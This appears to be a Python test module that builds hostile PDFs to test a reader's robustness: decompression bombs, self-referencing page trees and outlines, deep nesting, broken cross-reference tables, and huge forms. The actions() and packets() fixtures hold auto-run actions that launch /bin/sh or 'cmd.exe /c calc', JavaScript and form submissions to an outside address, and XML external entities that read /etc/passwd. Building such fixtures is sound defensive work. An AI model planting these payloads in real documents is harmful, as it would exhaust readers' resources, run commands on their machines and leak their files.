"""PDFs that want a reader's memory, its time, or to be let out."""

from __future__ import annotations

import io
import zlib

from pypdf import PdfReader, PdfWriter

from tests.hostile.packing import framed
from tests.pdfs import HELVETICA, file, pdf, stream, text

FLATE, TWICE = b"/Filter/FlateDecode", b"/Filter[/FlateDecode/FlateDecode]"


def line(words: str) -> bytes:
    return text([(40, 500, 12, words.encode())])


def content_bomb() -> bytes:
    """A page whose content is 4 GB of nothing; the page behind it is an ordinary one."""
    bomb = stream(zlib.compress(framed(4 << 30)), TWICE)
    return file(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[4 0 R 6 0 R]/Count 2>>",
            HELVETICA,
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 600]/Contents 5 0 R>>",
            bomb,
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 600]/Contents 7 0 R/Resources<</Font<</F1 3 0 R>>>>>>",
            stream(line("Behind the bomb stands a pear tree.")),
        ]
    )


def table_bomb() -> bytes:
    """The table of the file's objects is a stream of 4 GB."""
    packed = zlib.compress(framed(4 << 30))
    head = (
        b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
    )
    entries = b"/Type/XRef/Size 3/W[1 4 2]/Root 1 0 R" + TWICE
    return head + b"3 0 obj\n" + stream(packed, entries) + b"\nendobj\nstartxref\n%d\n%%%%EOF" % len(head)


def image_bomb() -> bytes:
    """One image of 30,000 by 30,000 points covers the page, so that it looks like a scan."""
    image = stream(
        zlib.compress(framed(30_000 * 30_000)),
        b"/Type/XObject/Subtype/Image/Width 30000/Height 30000/BitsPerComponent 8/ColorSpace/DeviceGray" + TWICE,
    )
    return pdf(b"q 400 0 0 600 0 0 cm /I1 Do Q", more=[image])


def forms(depth: int = 12, times: int = 10) -> bytes:
    """Drawings within drawings: each draws the next ten times, twelve deep."""
    called = [
        stream(
            b"/I2 Do " * times, b"/Type/XObject/Subtype/Form/BBox[0 0 400 600]/Resources<</XObject<</I2 %d 0 R>>>>" % n
        )
        for n in range(5, 4 + depth)
    ]
    last = stream(line("x"), b"/Type/XObject/Subtype/Form/BBox[0 0 400 600]/Resources<</Font<</F1 3 0 R>>>>")
    return pdf(b"/I1 Do", more=[*called, last])


def form_of_itself() -> bytes:
    form = stream(
        b"/I1 Do " + line("Round and round."),
        b"/Type/XObject/Subtype/Form/BBox[0 0 400 600]/Resources<</Font<</F1 3 0 R>>/XObject<</I1 4 0 R>>>>",
    )
    return pdf(b"/I1 Do", more=[form])


def tree_of_itself() -> bytes:
    """The pages' tree holds itself beside its one page."""
    return pdf(line("The tree is its own branch.")).replace(b"/Kids[4 0 R]", b"/Kids[2 0 R 4 0 R 2 0 R]")


def too_many(count: int = 1_000_000) -> bytes:
    return pdf(line("There is one page, whatever is said."), count=count)


def too_few() -> bytes:
    return pdf(*(line(f"This is page {n} of three.") for n in range(1, 4)), count=1)


def nested(depth: int = 100_000) -> bytes:
    return pdf(line("Brackets in brackets."), page=b"/MediaBox[0 0 400 600]/X" + b"[" * depth + b"]" * depth)


def nested_content(depth: int = 100_000) -> bytes:
    return pdf(b"[" * depth + b"]" * depth + b" TJ " + b"<<" * depth + b" q " * depth + line("Under all of that."))


def box(numbers: bytes) -> bytes:
    return pdf(line("A page of an odd size."), page=b"/MediaBox[%s]" % numbers)


def without_table() -> bytes:
    whole = pdf(line("The table of objects is gone."))
    return whole[: whole.rindex(b"xref\n0 ")] + whole[whole.rindex(b"trailer") : whole.rindex(b"startxref")]


def table_of_itself() -> bytes:
    """The table names itself as the one before it."""
    whole = pdf(line("Before me there was me."))
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % whole.rindex(b"xref\n0 "))


def cut(tenths: int) -> bytes:
    whole = pdf(*(line(f"Page {n} of a file that was cut off at {tenths}0 %.") for n in range(1, 6)))
    return whole[: len(whole) * tenths // 10]


def locked(algorithm: str) -> bytes:
    writer = PdfWriter(PdfReader(io.BytesIO(pdf(line(f"Behind {algorithm}.")))))
    writer.encrypt("what only the sender knows", algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def actions(outside: str) -> bytes:
    """All that a PDF can do when it is opened, and all that it can name elsewhere."""
    address = outside.encode()
    links = [
        b"<</S/JavaScript/JS(app.launchURL\\('%s/js'\\);this.submitForm\\('%s/form'\\))>>" % (address, address),
        b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>",
        b"<</S/URI/URI(%s/uri)>>" % address,
        b"<</S/GoToR/F<</FS/URL/F(%s/file.pdf)>>/D[0/Fit]>>" % address,
        b"<</S/SubmitForm/F<</FS/URL/F(%s/submit)>>>>" % address,
        b"<</S/ImportData/F<</FS/URL/F(%s/data.fdf)>>>>" % address,
    ]
    elsewhere = b"<</Length 0/F<</FS/URL/F(%s/stream)>>/FFilter/FlateDecode>>\nstream\n\nendstream" % address
    notes = b"".join(
        b"<</Type/Annot/Subtype/Link/Rect[0 0 400 600]/A %s/AA<</PO %s>>>>" % (each, each) for each in links
    )
    image = stream(b"", b"/Type/XObject/Subtype/Image/Width 9/Height 9/F<</FS/URL/F(%s/image)>>" % address)
    form = b"/AcroForm<</Fields[]/NeedAppearances true/XFA 5 0 R>>/OpenAction %s/AA<</WC %s>>" % (links[0], links[0])
    names = b"/Names<</JavaScript<</Names[(a) %s]>>/URLS<</Names[(%s/names) 6 0 R]>>>>" % (links[0], address)
    xfa = (
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "%s/entity">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&e;</xdp:xdp>'
        % address
    )
    return pdf(
        b"/I1 Do " + line("This page asks for many things."),
        more=[image, stream(xfa), elsewhere],
        catalogue=form + names,
        page=b"/MediaBox[0 0 400 600]/AA<</O %s>>/Annots[%s]" % (links[0], notes),
    )


def packets(outside: str) -> bytes:
    """Metadata in XML that names what lies elsewhere, and grows."""
    declared = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{outside}/xmp"><!ENTITY f SYSTEM "file:///etc/passwd">]>'
    xmp = f'{declared}<x:xmpmeta xmlns:x="adobe:ns:meta/"><dc:title xmlns:dc="http://purl.org/dc/elements/1.1/">&e;&f;</dc:title></x:xmpmeta>'
    return pdf(
        line("The metadata want to be fetched."),
        more=[stream(xmp.encode(), b"/Type/Metadata/Subtype/XML")],
        catalogue=b"/Metadata 4 0 R",
    )


def attached_bomb() -> bytes:
    bomb = stream(zlib.compress(framed(4 << 30)), b"/Type/EmbeddedFile" + TWICE)
    return pdf(
        line("Something is attached."),
        more=[bomb, b"<</Type/Filespec/F(../../bomb.xml)/EF<</F 4 0 R>>>>"],
        catalogue=b"/Names<</EmbeddedFiles<</Names[(b) 5 0 R]>>>>",
    )


def packed_objects(count: int = 20_000, size: int = 6_000_000) -> bytes:
    """What looks like many packed streams of pages, in front of a long rest."""
    fake = b"/Type/ObjStm stream\n"
    return pdf(line("Many streams that are none."), more=[stream(fake * count + b" " * size)])


def grid(lines: int = 150_000) -> bytes:
    """A page full of rulings, as if it were one vast table."""
    side = lines // 2
    across = b"".join(b"0 %.3f m 400 %.3f l S " % (n * 600 / side, n * 600 / side) for n in range(side))
    down = b"".join(b"%.3f 0 m %.3f 600 l S " % (n * 400 / side, n * 400 / side) for n in range(side))
    return pdf(across + down + line("Somewhere in the grid."))


def overprinted(letters: int = 40_000) -> bytes:
    """White letters that fill a page, each placed by itself."""
    shown = b"".join(b"1 0 0 1 %d %d Tm (x)Tj " % (n % 400, n * 7 % 600) for n in range(letters))
    return pdf(b"BT 1 g /F1 0.5 Tf " + shown + b"ET 0 g " + line("Among them one that is seen."))


def fields(count: int = 4_000) -> bytes:
    """A form of many fields, each with a value."""
    widget = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(field %d)/V(value %d)/Rect[%d %d %d %d]>>"
    widgets = [widget % (n, n, n % 380, n % 580, n % 380 + 15, n % 580 + 15) for n in range(count)]
    names = b" ".join(b"%d 0 R" % (4 + n) for n in range(count))
    return pdf(
        line("A long form."),
        more=widgets,
        catalogue=b"/AcroForm<</Fields[%s]>>" % names,
        page=b"/MediaBox[0 0 400 600]/Annots[%s]" % names,
    )


def outline_of_itself() -> bytes:
    return pdf(
        line("The contents go round."),
        more=[
            b"<</Type/Outlines/First 5 0 R/Last 5 0 R>>",
            b"<</Title(Round)/Next 5 0 R/First 5 0 R/Dest[6 0 R/Fit]>>",
        ],
        catalogue=b"/Outlines 4 0 R",
    )


def labels() -> bytes:
    """Page labels in Roman figures from two thousand million on."""
    return pdf(
        line("A page far on."), catalogue=b"/PageLabels<</Nums[0<</S/r/St 2000000000/P(%s)>>]>>" % (b"x" * 100_000)
    )


def halves() -> bytes:
    """Letters that are said to be NUL, and halves of characters."""
    table = b"1 begincodespacerange <00><ff> endcodespacerange 3 beginbfchar <41><0000> <42><d800> <43><ffff> endbfchar"
    cmap = b"/CIDInit/ProcSet findresource begin begincmap " + table + b" endcmap end"
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 4 0 R>>"
    return pdf(line("ABC is not what it seems, said the fox."), font=font, more=[stream(cmap)])


def structure(depth: int = 5_000) -> bytes:
    """A tree of tags that goes on and on."""
    first = 6
    branches = [
        b"<</Type/StructElem/S/Table/P %d 0 R/K %d 0 R>>" % (first + n - 1, first + n + 1) for n in range(depth)
    ]
    root = b"<</Type/StructTreeRoot/K 6 0 R/ParentTree<</Nums[0[6 0 R]]>>>>"
    last = b"<</Type/StructElem/S/TD/P %d 0 R/K 0>>" % (first + depth - 1)
    return pdf(
        b"/P<</MCID 0>>BDC " + line("Tagged, and tagged again.") + b" EMC",
        more=[b"null", root, *branches, last],
        catalogue=b"/MarkInfo<</Marked true>>/StructTreeRoot 5 0 R",
        page=b"/MediaBox[0 0 400 600]/StructParents 0",
    )
